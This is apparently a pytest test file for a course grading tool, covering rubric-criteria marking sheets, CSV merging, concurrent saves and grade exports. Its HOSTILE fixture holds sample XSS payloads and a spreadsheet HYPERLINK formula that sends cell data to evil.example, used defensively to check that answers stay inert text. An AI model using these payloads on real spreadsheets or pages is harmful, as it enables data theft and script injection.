"""Marking sheets and written.csv's criteria columns: every typed mark kept, counted once valid, never faked.

Most tests build a graded folder by hand from the course's own solution notebooks (05-survey: W1
has three 1-point criteria, W2 four; 01-history: W1 three, W2 two); one grades real submissions
of the fixture exercise (W1: criteria of 2 and 1 points) to add a late student.
"""

from __future__ import annotations

import contextlib
import csv
import io
import threading
import time
from pathlib import Path

import nbformat
import pytest
from course_root import course_with_solutions
from test_grader import RIGHT, answered

from fourislands.cli import main
from fourislands.grading import gradebook, marking
from fourislands.grading.export import lms_grades
from fourislands.grading.grader import QuestionResult, StudentResult, results_from_json
from fourislands.grading.output_folder import OutputFolder
from fourislands.grading.report import class_report

FAST = ["--jobs", "2", "--cell-timeout", "5", "--timeout", "30"]
# The header written.csv had before the criteria columns, as today's code wrote it until now.
OLD_HEADER = ["student", "exercise", "question", "points", "rubric", "answer", "score", "comment"]
HOSTILE = {
    "a-tag": "<script>alert('marks')</script>Japan is right.",
    "b-image": '![x](http://evil.example/x.png" onerror="alert(1)) <img src=x onerror=alert(2)>',
    "c-formula": '=HYPERLINK("http://evil.example/?"&A1,"Full marks, click")',
    "d-long": "=" + "very long " * 60_000,  # 600,000 characters: past csv's 128 KiB field limit
    "e-rtl": "I agree\u202e.sknaht\u202c with \u2066both\u2069 sides\u200b\u200bhidden\u0007 \U000e0041",
    "f-maths": "$\\begin{array}{c} \\text{2 of 2} \\end{array}$ and $$x$$",
}


def cells(text: str) -> list[list[str]]:
    with gradebook._long_fields():
        return list(csv.reader(io.StringIO(text, newline="")))


def read_text(path: Path) -> str:
    with path.open(encoding="utf-8", newline="") as handle:
        return handle.read()


def assert_no_formula(table: list[list[str]]) -> None:
    """No cell opens as a formula in a spreadsheet: none starts with = + - @ (tab, CR, NUL) but numbers."""
    for row in table:
        for cell in row:
            risky = cell.startswith(("\t", "\r", "\0")) or cell.lstrip().startswith(
                ("=", "+", "-", "@", "\uff1d")
            )
            assert not risky or gradebook.NUMBER.fullmatch(cell), repr(cell[:80])


def written(out: Path) -> tuple[list[str], dict[tuple[str, str, str], dict[str, str]]]:
    """Return written.csv's header and its rows by (student, exercise, question), cells as typed."""
    header, *rows = cells(read_text(out / "written.csv"))
    by_key = {}
    for row in rows:
        named = {name: gradebook.plain_cell(cell) for name, cell in zip(header, row, strict=True)}
        by_key[(named["student"], named["exercise"], named["question"])] = named
    return header, by_key


def column(header: list[str], exercise: str, question: str, n: int) -> str:
    """Return the name of the criteria column of a question's criterion n."""
    found = [
        name
        for name in header
        if gradebook.criterion_column(name) in {("", question, n), (exercise, question, n)}
    ]
    assert len(found) == 1, (header, exercise, question, n)
    return found[0]


def type_into(out: Path, marks: dict[tuple[str, str, str], dict[str, str]]) -> None:
    """Type into written.csv as a spreadsheet saves it: {(student, exercise, question): {"c1": "1", ...}}."""
    with gradebook._long_fields():
        reader = csv.DictReader(io.StringIO(read_text(out / "written.csv"), newline=""))
        rows = list(reader)
    header = list(reader.fieldnames)
    for row in rows:
        key = (gradebook.plain_cell(row["student"]), row["exercise"], row["question"])
        for name, value in marks.get(key, {}).items():
            target = (
                column(header, key[1], key[2], int(name[1:]))
                if name[0] == "c" and name[1:].isdigit()
                else name
            )
            row[target] = value
    text = io.StringIO()
    writer = csv.DictWriter(text, fieldnames=header, lineterminator="\r\n")
    writer.writeheader()
    writer.writerows(rows)
    (out / "written.csv").write_text(text.getvalue(), encoding="utf-8", newline="")


def book(out: Path, exercise: str) -> dict[str, dict[str, str]]:
    header, _points, *rows = cells(read_text(out / f"gradebook-{exercise}.csv"))
    return {gradebook.plain_cell(row[0]): dict(zip(header, row, strict=True)) for row in rows}


@pytest.fixture(scope="module")
def course_home(tmp_path_factory) -> Path:
    return course_with_solutions(tmp_path_factory.mktemp("marking-course"), "01-history", "05-survey")


@pytest.fixture
def specs(course_home, monkeypatch) -> dict[str, gradebook.ExerciseSpec]:
    monkeypatch.setenv("FOURISLANDS_HOME", str(course_home))
    return gradebook.exercise_specs()


def result_of(spec: gradebook.ExerciseSpec, student: str, answer: str = "An answer.") -> StudentResult:
    """Return a graded result with every autograded question passed and each written answer given."""
    return StudentResult(
        student,
        f"/submissions/{student}/{spec.name}.ipynb",
        spec.name,
        "graded",
        questions=[
            QuestionResult(q.id, q.points, q.points, "passed") for q in spec.questions if not q.written
        ],
        written={q.id: answer for q in spec.questions if q.written},
    )


def auto_points(spec: gradebook.ExerciseSpec) -> float:
    return sum(q.points for q in spec.questions if not q.written)


@pytest.fixture
def survey(specs, tmp_path) -> Path:
    """A graded folder of 05-survey: alice, bob and carol, nothing marked."""
    out = tmp_path / "graded"
    results = [result_of(specs["05-survey"], s, f"{s} wrote this.") for s in ("alice", "bob", "carol")]
    assert gradebook.write_outputs(results, out) == []
    return out


# -- written.csv: a column per criterion, a computed total -------------------------------------


def test_written_csv_has_a_readable_column_per_criterion_and_a_computed_total(survey, specs):
    header, rows = written(survey)
    rubric = specs["05-survey"].question("w1").rubric
    assert [c["points"] for c in rubric] == [1, 1, 1]
    assert header == [
        "student",
        "exercise",
        "question",
        "points",
        "w1 c1 Defines points as the difference… (1)",
        "w1 c2 Works out both measures… (1)",
        "w1 c3 Says Hirose's 'down 12%' means… (1)",
        "w2 c1 Says what the survey does show… (1)",
        "w2 c2 Explains why it cannot be… (1)",
        "w2 c3 Names a limit of the data: no… (1)",
        "w2 c4 Compares with the national… (1)",
        "score",
        "total",
        "comment",
        "answer",
    ]
    assert "rubric" not in header and all(len(name) < 50 for name in header)
    # Criteria for alice's W1, a typed total (no criteria) for her W2, as a grader who prefers it.
    type_into(
        survey,
        {
            ("alice", "05-survey", "w1"): {"c1": "1", "c2": "1", "c3": "0", "comment": "Units right."},
            ("alice", "05-survey", "w2"): {"score": "3"},
            ("bob", "05-survey", "w1"): {"c1": "1", "c2": "0.5", "c3": "0"},
        },
    )
    assert gradebook.merge_written(survey) == []
    _, rows = written(survey)
    assert (rows[("alice", "05-survey", "w1")]["total"], rows[("alice", "05-survey", "w2")]["total"]) == (
        "2",
        "3",
    )
    assert (
        rows[("bob", "05-survey", "w1")]["total"] == "1.5" and rows[("bob", "05-survey", "w2")]["total"] == ""
    )
    assert rows[("alice", "05-survey", "w1")]["w1 c2 Works out both measures… (1)"] == "1"
    survey_book = book(survey, "05-survey")
    auto = auto_points(specs["05-survey"])
    assert survey_book["alice"]["status"] == "complete"
    assert (survey_book["alice"]["w1"], survey_book["alice"]["w2"]) == ("2", "3")
    assert survey_book["alice"]["total"] == gradebook.points_text(auto + 5)
    assert survey_book["bob"]["status"] == "awaiting manual marks" and survey_book["bob"]["w1"] == "1.5"
    feedback = (survey / "feedback" / "05-survey" / "alice.md").read_text()
    assert "## W1. Percent or percentage points? (2 of 3 points)" in feedback
    assert (
        "- Defines points as the difference of two percentages" in feedback and "(1 pt): 1 of 1" in feedback
    )
    assert "Grader's comment: Units right." in feedback


def test_two_exercises_name_their_criteria_columns_by_exercise_and_read_both_names(specs, tmp_path):
    out = tmp_path / "graded"
    gradebook.write_outputs([result_of(specs["05-survey"], "alice")], out)
    type_into(out, {("alice", "05-survey", "w1"): {"c1": "1", "c2": "1", "c3": "1"}})  # named "w1 c1 ..."
    gradebook.write_outputs([result_of(specs["01-history"], "alice")], out)  # a second exercise
    header, rows = written(out)
    assert "05-survey w1 c1 Defines points as the difference… (1)" in header
    assert "01-history w2 c2 Names a further limit or a… (1)" in header
    assert not [name for name in header if name.startswith("w1 ")]
    assert rows[("alice", "05-survey", "w1")]["total"] == "3"
    assert rows[("alice", "01-history", "w1")]["05-survey w1 c1 Defines points as the difference… (1)"] == ""
    # The words after "w1 c1" are for the grader: a spreadsheet or a new rubric may change them.
    text = read_text(out / "written.csv").replace(
        "05-survey w1 c1 Defines points", "05-survey w1 c1 Whatever"
    )
    (out / "written.csv").write_text(text, encoding="utf-8", newline="")
    assert gradebook.merge_written(out) == []
    assert book(out, "05-survey")["alice"]["w1"] == "3"
    assert gradebook.criterion_column("w1 c1") == ("", "w1", 1)
    assert gradebook.criterion_column(" 01-history W2 C3 anything (1)") == ("01-history", "w2", 3)
    for other in ("score", "w1", "w1c1", "comment w1 c1", "w1 c0 none", "total"):
        assert gradebook.criterion_column(other) is None


def test_criteria_marks_outside_their_points_are_kept_not_counted_and_named(survey, specs):
    type_into(
        survey,
        {
            ("alice", "05-survey", "w1"): {"c1": "1", "c2": "5", "c3": "1"},  # c2 is worth 1
            ("bob", "05-survey", "w1"): {"c1": "-1", "c2": "one", "c3": "nan"},
            ("carol", "05-survey", "w1"): {"c1": "1"},  # c2, c3 not marked yet
            ("carol", "05-survey", "w2"): {"c1": "1", "c2": "1", "c3": "1", "c4": "1", "score": "2"},
        },
    )
    problems = gradebook.merge_written(survey)
    said = "\n".join(problems)
    assert "(alice 05-survey w1): c2 (Works out both measures…): 5 is outside 0-1; kept, not counted" in said
    assert "(bob 05-survey w1): c1 (Defines points as the difference…): -1 is outside 0-1" in said
    assert "(bob 05-survey w1): c2 (Works out both measures…): 'one' is not a number" in said
    assert "(bob 05-survey w1): c3 (Says Hirose's 'down 12%' means…): nan is outside 0-1" in said
    assert "(carol 05-survey w1): c2, c3 not marked yet (0 for none)" in said
    assert "(carol 05-survey w2): score '2' differs from the criteria's 4: the criteria count" in said
    survey_book = book(survey, "05-survey")
    assert (survey_book["alice"]["w1"], survey_book["bob"]["w1"], survey_book["carol"]["w1"]) == ("", "", "")
    assert survey_book["carol"]["w2"] == "4"
    header, rows = written(survey)  # every mark kept as typed, for the grader to correct
    assert rows[("alice", "05-survey", "w1")][column(header, "05-survey", "w1", 2)] == "5"
    assert rows[("bob", "05-survey", "w1")][column(header, "05-survey", "w1", 1)] == "-1"
    assert rows[("bob", "05-survey", "w1")][column(header, "05-survey", "w1", 2)] == "one"
    assert rows[("alice", "05-survey", "w1")]["total"] == ""
    assert_no_formula(cells(read_text(survey / "written.csv")))  # "-1" is a number: no apostrophe needed


def test_a_mark_typed_where_it_cannot_count_is_kept_and_reported(survey):
    header, _ = written(survey)
    type_into(
        survey,
        {
            ("alice", "05-survey", "w1"): {"total": "3"},  # typed into the computed column only
            ("bob", "05-survey", "w1"): {column(header, "05-survey", "w2", 4): "1", "score": "2"},
        },
    )
    problems = gradebook.merge_written(survey)
    assert any(
        "(alice 05-survey w1): total '3' with no score and no criteria; kept, not counted" in p
        for p in problems
    )
    assert any(
        "(bob 05-survey w1): '1' is under 05-survey w2 c4, a column of another question" in p
        for p in problems
    )
    header, rows = written(survey)
    assert rows[("alice", "05-survey", "w1")]["total"] == "3"
    assert rows[("bob", "05-survey", "w1")][column(header, "05-survey", "w2", 4)] == "1"
    assert book(survey, "05-survey")["alice"]["w1"] == "" and book(survey, "05-survey")["bob"]["w1"] == "2"


def old_written_csv(out: Path, scores: dict[tuple[str, str, str], tuple[str, str]]) -> None:
    """Write out/written.csv as the grader wrote it before the criteria columns: the rubric in one cell."""
    results = sorted(
        results_from_json((out / "results.json").read_text(encoding="utf-8")), key=lambda r: r.key
    )
    specs = gradebook.exercise_specs()
    table: list[list[object]] = [OLD_HEADER]
    for r in results:
        for question, answer in sorted(r.written.items()):
            shown = specs[r.exercise].question(question)
            score, comment = scores.get((r.student, r.exercise, question), ("", ""))
            rubric = "; ".join(f"{c['criterion']} ({c['points']})" for c in shown.rubric)
            table.append(
                [
                    r.student,
                    r.exercise,
                    question,
                    gradebook.points_text(shown.points),
                    rubric,
                    answer,
                    score,
                    comment,
                ]
            )
    (out / "written.csv").write_text(gradebook.csv_text(table), encoding="utf-8", newline="")


def test_an_old_written_csv_with_one_score_per_answer_still_merges(specs, tmp_path):
    out = tmp_path / "graded"
    results = [result_of(specs["05-survey"], "alice", "=1+1 is not"), result_of(specs["05-survey"], "bob")]
    gradebook.write_outputs(results, out)
    old_written_csv(
        out,
        {
            ("alice", "05-survey", "w1"): ("3", "Clear."),
            ("alice", "05-survey", "w2"): ("2.5", ""),
            ("bob", "05-survey", "w1"): ("7", "too many"),  # out of range: kept, not counted
        },
    )
    assert cells(read_text(out / "written.csv"))[0] == OLD_HEADER
    problems = gradebook.merge_written(out)
    assert [p for p in problems if "changed since it was marked" in p] == []  # '=1+1 reads back as typed
    assert any("(bob 05-survey w1): score 7 is outside 0-3" in p for p in problems)
    survey_book = book(out, "05-survey")
    assert survey_book["alice"]["status"] == "complete"
    assert survey_book["alice"]["total"] == gradebook.points_text(auto_points(specs["05-survey"]) + 5.5)
    assert survey_book["bob"]["w1"] == ""
    header, rows = written(out)  # rewritten in today's format, every typed mark kept
    assert "rubric" not in header and column(header, "05-survey", "w1", 3)
    assert (rows[("alice", "05-survey", "w1")]["score"], rows[("alice", "05-survey", "w1")]["comment"]) == (
        "3",
        "Clear.",
    )
    assert rows[("alice", "05-survey", "w1")]["total"] == "3"
    assert (rows[("bob", "05-survey", "w1")]["score"], rows[("bob", "05-survey", "w1")]["total"]) == ("7", "")
    assert rows[("alice", "05-survey", "w1")]["answer"] == "=1+1 is not"


# -- the sheet: logic without a kernel ---------------------------------------------------------


def test_a_sheet_totals_as_the_merge_does_and_saves_only_what_it_changed(survey, specs):
    sheet = marking.load_sheet(survey, "05-survey", "W1")
    assert list(sheet.answers) == ["alice", "bob", "carol"] and sheet.question.id == "w1"
    sheet.set("alice", "c1", "1")
    assert (
        sheet.total("alice") == (None, [sheet.total("alice")[1][0]])
        and "c2, c3 not marked" in sheet.total("alice")[1][0]
    )
    sheet.set("alice", "c2", "1")
    sheet.set("alice", "c3", "0")
    sheet.set("bob", "score", "2")
    sheet.set("bob", "comment", "=see me")
    assert sheet.total("alice") == (2.0, []) and sheet.total("bob") == (2.0, [])
    assert sheet.changes() == {
        "alice": {"c1": ("", "1"), "c2": ("", "1"), "c3": ("", "0")},
        "bob": {"comment": ("", "=see me"), "score": ("", "2")},
    }
    said = marking.save_sheet(sheet)
    assert said == ["saved 5 changes for 2 students into written.csv"]
    assert sheet.changes() == {} and sheet.loaded["alice"].criteria == {1: "1", 2: "1", 3: "0"}
    _, rows = written(survey)
    assert (
        rows[("alice", "05-survey", "w1")]["total"] == "2"
        and rows[("bob", "05-survey", "w1")]["comment"] == "=see me"
    )
    assert book(survey, "05-survey")["alice"]["w1"] == "2" and book(survey, "05-survey")["bob"]["w1"] == "2"
    assert "'=see me" in read_text(survey / "written.csv")  # the comment stays text in a spreadsheet
    sheet.set("alice", "c3", "")  # un-marking one criterion: alice awaits a mark again
    marking.save_sheet(sheet)
    assert book(survey, "05-survey")["alice"]["w1"] == ""
    with pytest.raises(ValueError, match="no written question 'q1'"):
        marking.load_sheet(survey, "05-survey", "q1")
    with pytest.raises(KeyError):
        sheet.set("mallory", "c1", "1")  # no graded answer: no row can be made up for her


def test_a_sheet_open_across_a_regrade_says_the_answer_changed_and_keeps_the_marks(survey, specs):
    sheet = marking.load_sheet(survey, "05-survey", "w1")  # open while a late notebook is graded
    sheet.set("bob", "c1", "1")
    sheet.set("bob", "c2", "1")
    marking.save_sheet(sheet)
    view = marking.SheetView(sheet)
    gradebook.write_outputs([result_of(specs["05-survey"], "bob", "A new, late answer.")], survey)
    view.roster.value = "bob"
    view.controls["c3"].value = "0"
    said = view.save_now()
    changed = "bob 05-survey w1: the written answer changed since it was marked; the typed marks are kept"
    assert any(line.startswith(changed) for line in said)
    assert view.answer.value == "A new, late answer."  # the saved sheet shows the new answer
    assert (view.controls["c1"].value, view.controls["c3"].value) == ("1", "0")
    assert book(survey, "05-survey")["bob"]["w1"] == "2"
    assert marking.save_sheet(sheet) == [
        "nothing changed here since the last save: the sheet now shows the marks of written.csv"
    ]


def test_marks_saved_from_two_sheets_at_once_are_both_kept(survey, monkeypatch):
    first = marking.load_sheet(survey, "05-survey", "w1")
    second = marking.load_sheet(survey, "05-survey", "w1")
    first.set("alice", "c1", "1")
    second.set("bob", "c1", "1")
    second.set("alice", "c2", "1")  # the same student, another criterion
    apply = marking.apply_changes

    def slowly(*args):  # hold each save between reading written.csv and writing it
        said = apply(*args)
        time.sleep(0.4)
        return said

    monkeypatch.setattr(marking, "apply_changes", slowly)
    start, said = threading.Barrier(2), {}

    def save(name: str, sheet: marking.Sheet) -> None:
        start.wait()
        said[name] = marking.save_sheet(sheet, wait=20)

    threads = [threading.Thread(target=save, args=item) for item in (("first", first), ("second", second))]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert all(lines[0].startswith("saved") for lines in said.values()), said
    typed = {
        gradebook.typed_key(row): row["criteria"] for row in gradebook.read_typed(survey / "written.csv")
    }
    assert typed[("alice", "05-survey", "w1")] == {1: "1", 2: "1"}
    assert typed[("bob", "05-survey", "w1")] == {1: "1"}
    # The sheet saved last shows the other's marks too.
    assert {1: "1", 2: "1"} in (first.marks["alice"].criteria, second.marks["alice"].criteria)


def test_without_the_lock_the_second_save_would_lose_the_first(survey, monkeypatch):
    """The check above is not luck: with the lock taken away, the same two saves lose a mark."""
    first, second = (marking.load_sheet(survey, "05-survey", "w1") for _ in range(2))
    first.set("alice", "c1", "1")
    second.set("bob", "c1", "1")
    apply = marking.apply_changes
    monkeypatch.setattr(marking, "apply_changes", lambda *args: (apply(*args), time.sleep(0.4))[0])
    monkeypatch.setattr(marking, "waiting_lock", lambda *_: contextlib.nullcontext())
    threads = [threading.Thread(target=marking.save_sheet, args=(sheet,)) for sheet in (first, second)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    typed = {gradebook.typed_key(row) for row in gradebook.read_typed(survey / "written.csv")}
    assert len(typed & {("alice", "05-survey", "w1"), ("bob", "05-survey", "w1")}) == 1


def test_a_save_waits_for_a_grader_and_else_keeps_the_marks_unsaved(survey):
    sheet = marking.load_sheet(survey, "05-survey", "w1")
    sheet.set("carol", "score", "1")
    with OutputFolder(survey):  # a grader (or another sheet) holds the folder
        said = marking.save_sheet(sheet, wait=0.2)
    assert said[0].startswith("not saved:") and "in use by another grader" in said[0]
    assert sheet.unsaved() == ["carol"] and gradebook.read_typed(survey / "written.csv") == []
    holder = OutputFolder(survey).__enter__()
    saving = threading.Thread(target=lambda: said.extend(marking.save_sheet(sheet, wait=20)))
    saving.start()
    time.sleep(0.5)
    holder.__exit__(None, None, None)
    saving.join()
    assert said[-1].startswith("saved 1 change") and book(survey, "05-survey")["carol"]["w1"] == "1"


def test_the_same_mark_changed_in_two_sheets_takes_the_later_save_and_says_so(survey):
    first, second = (marking.load_sheet(survey, "05-survey", "w1") for _ in range(2))
    first.set("alice", "c3", "1")
    second.set("alice", "c3", "0")
    marking.save_sheet(first)
    said = marking.save_sheet(second)
    assert any(
        "alice 05-survey w1 c3: '1' was saved from elsewhere" in line and "'0'" in line for line in said
    )


# -- hostile answers ---------------------------------------------------------------------------


@pytest.fixture
def hostile(specs, tmp_path) -> Path:
    out = tmp_path / "hostile"
    gradebook.write_outputs([result_of(specs["05-survey"], s, text) for s, text in HOSTILE.items()], out)
    return out


def every_widget(widget):
    yield widget
    for child in getattr(widget, "children", ()):
        yield from every_widget(child)


def test_hostile_answers_show_as_text_in_the_sheet(hostile):
    import ipywidgets

    view = marking.SheetView(marking.load_sheet(hostile, "05-survey", "w1"))
    for student, answer in HOSTILE.items():
        view.roster.value = student
        assert view.answer.value == marking.shown_text(answer)
        widgets = list(every_widget(view.widget))
        shown = [w for w in widgets if isinstance(w, ipywidgets.Textarea) and w.disabled]
        assert shown == [view.answer]  # the only place an answer goes: a read-only text box
        rendered = [
            w.value
            for w in widgets
            if isinstance(w, ipywidgets.HTML | ipywidgets.HTMLMath | ipywidgets.Label)
        ]
        for fragment in (
            "script",
            "onerror",
            "HYPERLINK",
            "evil",
            "very long",
            "sknaht",
            "begin{array}",
            "$$",
        ):
            assert not [v for v in rendered if fragment in v], fragment
        labels = [label for label, _ in view.roster.options]
        assert all(len(label) < 120 and "\u202e" not in label and "\n" not in label for label in labels)
    view.roster.value = "e-rtl"
    assert "⟨U+202E⟩.sknaht⟨U+202C⟩" in view.answer.value and "⟨U+2066⟩both⟨U+2069⟩" in view.answer.value
    assert "⟨U+200B⟩⟨U+200B⟩hidden⟨U+0007⟩" in view.answer.value and "⟨U+E0041⟩" in view.answer.value
    assert not set(view.answer.value) & (marking.BIDI_CONTROLS | {"\u200b", "\x07"})
    assert marking.shown_text("فارسی\u200cها\r\nok\tok") == "فارسی\u200cها\nok\tok"  # joiners and tabs stay
    view.roster.value = "d-long"
    assert len(view.answer.value) == len(HOSTILE["d-long"])


def test_hostile_answers_stay_text_and_read_back_exactly_in_written_csv(hostile):
    view = marking.SheetView(marking.load_sheet(hostile, "05-survey", "w1"))
    for student in HOSTILE:
        view.roster.value = student
        for control in ("c1", "c2", "c3"):
            view.controls[control].value = "1"
    view.comment.value = "@SUM(1+1)"
    view.save.click()
    assert view.status.value.startswith("saved 19 changes for 6 students")
    table = cells(read_text(hostile / "written.csv"))
    assert_no_formula(table)
    _, rows = written(hostile)
    for student, answer in HOSTILE.items():
        assert rows[(student, "05-survey", "w1")]["answer"] == answer
        assert rows[(student, "05-survey", "w1")]["total"] == "3"
    assert rows[("f-maths", "05-survey", "w1")]["comment"] == "@SUM(1+1)"
    assert gradebook.merge_written(hostile) == []  # nothing "changed since it was marked"


def test_the_notebook_holds_no_answer_and_runs_into_a_widget_that_shows_answers_as_text(hostile):
    from nbclient import NotebookClient

    paths = marking.write_marking_sheets(hostile)
    assert [p.name for p in paths] == ["05-survey-w1.ipynb", "05-survey-w2.ipynb"]
    text = paths[0].read_text()
    assert not [s for s, answer in HOSTILE.items() if s in text or answer[:20] in text]
    notebook = nbformat.read(paths[0], as_version=4)
    assert "W1. Percent or percentage points?" in notebook.cells[0].source
    assert "- **c3** (1 pt): Says Hirose's 'down 12%'" in notebook.cells[1].source
    NotebookClient(
        notebook, timeout=120, kernel_name="python3", resources={"metadata": {"path": str(paths[0].parent)}}
    ).execute()
    outputs = notebook.cells[-1].outputs
    assert [o.output_type for o in outputs] == ["execute_result"]
    assert (
        "application/vnd.jupyter.widget-view+json" in outputs[0].data and "text/html" not in outputs[0].data
    )
    models = notebook.metadata.widgets["application/vnd.jupyter.widget-state+json"]["state"].values()
    shown = [
        m["state"]["value"]
        for m in models
        if m["model_name"] == "TextareaModel" and m["state"].get("disabled")
    ]
    assert shown == [marking.shown_text(HOSTILE["a-tag"])]  # the first student, as plain text
    html_values = [
        m["state"].get("value", "") for m in models if m["model_name"] in ("HTMLModel", "LabelModel")
    ]
    assert not [v for v in html_values if "HYPERLINK" in v or "evil" in v]
    # Written again, a sheet whose cells are unchanged is left alone (it may be open, with outputs).
    nbformat.write(notebook, paths[0])
    before = paths[0].read_text()
    marking.write_marking_sheets(hostile)
    assert paths[0].read_text() == before


# -- through the grader: a late student, the exports, the class report -------------------------


@pytest.fixture
def course(built_course, monkeypatch):
    monkeypatch.setenv("FOURISLANDS_HOME", str(built_course))
    return built_course


def submit(course: Path, path: Path) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    nbformat.write(answered(course, RIGHT), path)


def test_criteria_marks_survive_a_regrade_that_adds_a_late_student_and_a_merge(course, tmp_path, capsys):
    folder, out = tmp_path / "in", tmp_path / "out"
    for student in ("bob", "dave"):
        submit(course, folder / f"{student}.ipynb")
    assert main(["grade", str(folder), "--out", str(out), *FAST]) == 0
    assert "marking sheets (1, one per written question)" in capsys.readouterr().out
    assert (out / "marking" / "99-fixture-w1.ipynb").is_file()
    sheet = marking.load_sheet(out, "99-fixture", "w1")
    assert [c["points"] for c in sheet.question.rubric] == [2, 1]
    sheet.set("dave", "c1", "2")
    sheet.set("dave", "c2", "1")
    marking.save_sheet(sheet)
    type_into(out, {("bob", "99-fixture", "w1"): {"c1": "1"}})  # half marked in a spreadsheet
    submit(course, tmp_path / "late" / "aaron.ipynb")  # sorts before both
    assert main(["grade", str(tmp_path / "late"), "--out", str(out), *FAST]) == 0
    said = capsys.readouterr().out
    assert "(bob 99-fixture w1): c2 not marked yet" in said
    assert main(["grade", "--merge-written", "--out", str(out)]) == 0
    header, rows = written(out)
    assert rows[("dave", "99-fixture", "w1")][column(header, "99-fixture", "w1", 1)] == "2"
    assert rows[("dave", "99-fixture", "w1")]["total"] == "3"
    assert rows[("bob", "99-fixture", "w1")][column(header, "99-fixture", "w1", 1)] == "1"
    fixture_book = book(out, "99-fixture")
    assert set(fixture_book) == {"aaron", "bob", "dave"}
    assert (fixture_book["dave"]["w1"], fixture_book["dave"]["status"], fixture_book["dave"]["total"]) == (
        "3",
        "complete",
        "10",
    )
    assert fixture_book["bob"]["w1"] == "" and fixture_book["aaron"]["w1"] == ""
    assert list(marking.load_sheet(out, "99-fixture", "w1").answers) == ["aaron", "bob", "dave"]
    assert main(["mark", str(out), "--exercise", "99-fixture", "--question", "W1"]) == 0
    assert "marking sheet: " in capsys.readouterr().out
    assert main(["mark", str(out), "--exercise", "99-fixture", "--question", "W7"]) == 2


def test_the_exports_and_the_class_report_read_totals_made_of_criteria(survey, specs):
    type_into(
        survey,
        {
            ("alice", "05-survey", "w1"): {"c1": "1", "c2": "1", "c3": "1"},
            ("alice", "05-survey", "w2"): {"c1": "1", "c2": "0", "c3": "1", "c4": "0"},
            ("bob", "05-survey", "w1"): {"score": "1"},
            ("bob", "05-survey", "w2"): {"c1": "1", "c2": "1", "c3": "1", "c4": "1"},
            ("carol", "05-survey", "w1"): {"c1": "1", "c2": "2", "c3": "1"},  # c2 out of range
            ("carol", "05-survey", "w2"): {"score": "4"},
        },
    )
    gradebook.merge_written(survey)
    auto = auto_points(specs["05-survey"])
    for lms, first in (("canvas", 2), ("moodle", 1)):
        text, problems = lms_grades(survey, lms)
        grades = {row[0]: row[-1] for row in cells(text)[first:]}
        assert grades == {"alice": gradebook.points_text(auto + 5), "bob": gradebook.points_text(auto + 5)}
        assert "05-survey: 1 left blank (awaiting manual marks): carol" in problems
    made = class_report(survey)
    assert made.awaiting == {("05-survey", "w1"): 1} and made.awaiting_students == 1
